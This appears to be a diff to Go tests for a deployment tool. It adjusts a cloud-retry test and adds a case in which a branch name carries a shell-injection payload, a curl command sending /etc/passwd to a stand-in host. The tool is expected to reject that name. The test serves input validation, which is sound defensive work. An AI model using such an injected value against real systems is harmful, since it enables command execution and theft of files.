@@ -622,8 +622,10 @@ func TestDeployLaunchRetried(t *testing.T) {
 			h := newDeployHarness(t, deployOpts{spec: func(s *switchboard.DeploySpec) { s.Redeploy = redeploy }})
 			h.cloud.InjectFault(sim.Fault{Action: "RunInstances", Times: 1, Applied: true})
 			_, first := h.start(devA, "login-fix")
-			if _, _, err := h.step(first); switchboard.ErrorCode(err) != switchboard.EUNAVAILABLE {
-				t.Fatalf("Advance error = %v, want the cloud unavailable", err)
+			// The step parks to try again (and says so); a worker that
+			// dies before that is committed resumes from the checkpoint.
+			if _, _, err := h.step(first); err != nil {
+				t.Fatalf("Advance error = %v, want the run parked to try again", err)
 			}
 			if n := len(h.live("")); n != 1 {
 				t.Fatalf("%d instances after the lost answer, want the one launched", n)
@@ -687,6 +689,10 @@ func TestDeployNothing(t *testing.T) {
 			name: "unavailable", query: "login-fix",
 			err:  switchboard.Errorf(switchboard.EUNAVAILABLE, "GitHub did not answer in 10s."),
 			want: "GitHub did not answer in 10s. Nothing was deployed.",
+		},		{
+			// A branch named to break out of the user data's shell.
+			name: "unsafe branch name", query: "evil",
+			want: `I won't deploy "feature/evil;curl$IFS-d@/etc/passwd$IFS-xhttp://x": a branch name here may hold only letters, digits and . _ / : + -, since it goes into the instance's user data.`,
 		},
 	}
 	for _, tt := range tests {
@@ -694,6 +700,7 @@ func TestDeployNothing(t *testing.T) {
 			t.Parallel()
 			h := newDeployHarness(t, deployOpts{})
 			h.source.err = tt.err
+			h.source.branches = append(h.source.branches, switchboard.Branch{Name: "feature/evil;curl$IFS-d@/etc/passwd$IFS-xhttp://x", Commit: "0123456789abcdef0123456789abcdef01234567"})
 			_, run := h.start(devA, tt.query)
 			o, wait, err := h.step(run)
 			if err != nil {
